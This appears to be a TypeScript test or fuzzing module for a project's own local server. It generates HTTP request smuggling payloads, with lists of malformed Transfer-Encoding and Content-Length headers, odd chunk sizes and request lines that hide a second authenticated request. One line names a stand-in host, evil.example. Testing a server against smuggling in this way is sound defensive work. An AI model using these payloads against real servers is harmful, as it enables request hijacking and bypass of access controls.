import type { Random } from "./random.js";

/** A request whose end is ambiguous; the hidden second request runs if a server ends the first one too early. */
export interface Smuggle {
  readonly what: string;
  readonly bytes: Buffer;
}

export interface SmuggleParts {
  readonly token: string;
  /** The effect of the hidden request if it ran. */
  readonly marker: string;
  readonly random: Random;
}

const TARGET = "/api/adapters/one/tools/effect";

const hidden = ({ token, marker }: SmuggleParts): string => {
  const body = JSON.stringify({ id: marker });
  return `POST ${TARGET} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
};

const head = ({ token }: SmuggleParts, lines: readonly string[], first = `POST ${TARGET} HTTP/1.1`): string =>
  [first, "Host: localhost", `Authorization: Bearer ${token}`, "Content-Type: application/json", ...lines, "", ""].join(
    "\r\n",
  );

/** Ways to declare a chunked body that not every parser accepts. */
const ODD_CHUNKED = [
  "Transfer-Encoding: xchunked",
  "Transfer-Encoding : chunked",
  "Transfer-Encoding:\u000bchunked",
  "Transfer-Encoding: chunked\u0000",
  "Transfer-Encoding: identity, chunked",
  "Transfer-Encoding: chunked, identity",
  "Transfer-Encoding: gzip, chunked",
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: chunk",
  "Transfer-Encoding: chunked, chunked",
  "Transfer-Encoding: chunked;q=1",
  "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
  "Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
  "Transfer-Encoding:\r\n chunked",
  "X: y\r\n Transfer-Encoding: chunked",
  "X: y\nTransfer-Encoding: chunked",
  "X: y\rTransfer-Encoding: chunked",
  "Transfer\u0000-Encoding: chunked",
  "Transfer_Encoding: chunked\r\nTransfer-Encoding:",
];
/** Lengths that parsers read as different numbers. */
const ODD_LENGTHS = [
  "+N",
  "-N",
  "0xN",
  "N,N",
  "N, M",
  "N\r\nContent-Length: M",
  " N N",
  "N.0",
  "Ne0",
  "\u0661",
  "",
  "N;",
];
const ODD_SIZES = ["0x5", "+5", "-5", " 5", "5 ", "5;\n", "5\n", "fffffffffffffffff", "5,", "g"];
const ODD_FIRST = [
  `POST ${TARGET} HTTP/1.0`,
  `POST ${TARGET} HTTP/1.2`,
  `POST ${TARGET} HTTP/2.0`,
  `POST ${TARGET}`,
  `POST ${TARGET} HTTP/1.1 `,
  `POST\t${TARGET}\tHTTP/1.1`,
  `POST http://evil.example${TARGET} HTTP/1.1`,
  `GET ${TARGET} HTTP/1.1\r\nX:`,
  `\u0000POST ${TARGET} HTTP/1.1`,
];

type Make = (parts: SmuggleParts) => string;

const KINDS: Readonly<Record<string, Make>> = {
  "a length and chunks": (parts) => {
    const rest = hidden(parts);
    const lines = [`Content-Length: ${rest.length + 5}`, "Transfer-Encoding: chunked"];
    if (parts.random.chance(0.5)) lines.reverse();
    return `${head(parts, lines)}0\r\n\r\n${rest}`;
  },
  "chunks with an unusual encoding name": (parts) =>
    `${head(parts, ["Content-Length: 4", parts.random.pick(ODD_CHUNKED)])}0\r\n\r\n${hidden(parts)}`,
  "chunks with only an unusual encoding name": (parts) =>
    `${head(parts, [parts.random.pick(ODD_CHUNKED)])}0\r\n\r\n${hidden(parts)}`,
  "an unusual length": (parts) => {
    const length = parts.random.pick(ODD_LENGTHS).replaceAll("N", "2").replaceAll("M", "9");
    return `${head(parts, [`Content-Length: ${length}`])}{}${hidden(parts)}`;
  },
  "an unusual chunk size": (parts) => {
    const size = parts.random.pick(ODD_SIZES);
    return `${head(parts, ["Transfer-Encoding: chunked"])}${size}\r\n{"a":\r\n0\r\n\r\n${hidden(parts)}`;
  },
  "a chunk without its end": (parts) =>
    `${head(parts, ["Transfer-Encoding: chunked"])}2\r\n{}X${parts.random.pick(["\n", "\r", ""])}0\r\n\r\n${hidden(parts)}`,
  "an unusual request line": (parts) =>
    `${head(parts, ["Content-Length: 2"], parts.random.pick(ODD_FIRST))}{}${hidden(parts)}`,
  "bare line feeds": (parts) => `${head(parts, ["Content-Length: 2"]).replaceAll("\r\n", "\n")}{}${hidden(parts)}`,
  "a folded header": (parts) => `${head(parts, ["X: a", " b", "Content-Length: 2"])}{}${hidden(parts)}`,
  "a GET with a body": (parts) => `${head(parts, ["Content-Length: 2"], "GET /healthz HTTP/1.1")}{}${hidden(parts)}`,
};

export const SMUGGLE_KINDS: readonly string[] = Object.keys(KINDS);

export function smuggle(parts: SmuggleParts): Smuggle {
  const what = parts.random.pick(SMUGGLE_KINDS);
  return { what, bytes: Buffer.from(KINDS[what]!(parts), "latin1") };
}
